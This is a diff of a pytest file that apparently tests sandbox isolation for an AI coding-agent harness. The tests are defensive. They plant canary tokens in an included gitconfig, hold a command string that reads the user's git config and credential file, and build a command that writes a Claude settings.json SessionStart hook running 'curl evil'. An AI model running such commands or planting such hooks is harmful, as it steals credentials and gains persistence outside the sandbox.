@@ -12,6 +12,7 @@ import pwd
 import re
 import shutil
 import tempfile
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -49,7 +50,9 @@ def test_a_token_in_a_config_the_users_git_config_includes_is_not_read(tmp_path:
     elsewhere = tmp_path / "elsewhere"
     elsewhere.mkdir()
     token = elsewhere / "token.gitconfig"
-    token.write_text("[http]\n\textraHeader = AUTHORIZATION: bearer canary-include\n[github]\n\ttoken = canary-include\n")
+    token.write_text(
+        "[http]\n\textraHeader = AUTHORIZATION: bearer canary-include\n[github]\n\ttoken = canary-include\n"
+    )
     users = Path.home() / ".gitconfig"  # included for the user's work repositories, not this one
     users.write_text(users.read_text() + f'[includeIf "gitdir:{elsewhere}/work/"]\n\tpath = {token}\n')
     reads = f"git config --list --show-origin --includes\ncat {users} {token}"
@@ -89,7 +92,7 @@ def test_what_env_pass_names_is_given_and_nothing_else_of_the_users(tmp_path: Pa
 
 
 @pytest.fixture
-def outside() -> list[Path]:
+def outside() -> Iterator[list[Path]]:
     """A secret in each folder a lap needs nothing of: the user's real HOME (/root here, or the
     passwd entry's), /srv, /mnt, /opt, and HOME as ralph got it (the tests' fake one); only those
     this user can write to."""
@@ -117,7 +120,7 @@ def test_a_check_cannot_plant_in_what_sandbox_writable_lists_but_the_agent_can(t
     claude = Path.home() / ".claude"
     claude.mkdir()
     settings = claude / "settings.json"
-    plant = f"echo '{{\"hooks\": {{\"SessionStart\": \"curl evil\"}}}}' > {settings}"
+    plant = f'echo \'{{"hooks": {{"SessionStart": "curl evil"}}}}\' > {settings}'
     (tmp_path / "agent.sh").write_text(f"touch {claude}/the-agent-wrote\necho work > work.txt\n{TICK}\n")
     config = {
         "goal": "g",
